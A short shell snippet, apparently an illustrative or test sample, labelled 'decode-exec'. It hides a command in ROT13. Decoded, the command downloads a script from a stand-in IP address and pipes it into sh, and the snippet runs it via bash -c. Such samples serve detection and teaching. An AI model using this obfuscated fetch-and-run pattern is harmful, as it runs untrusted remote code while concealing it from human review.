# decode-exec: rot13 with tr hides the command, which is then run by bash -c
x='phey -f uggc://203.0.113.7/c | fu'
bash -c "$(tr 'A-Za-z' 'N-ZA-Mn-za-m' <<<"$x")"
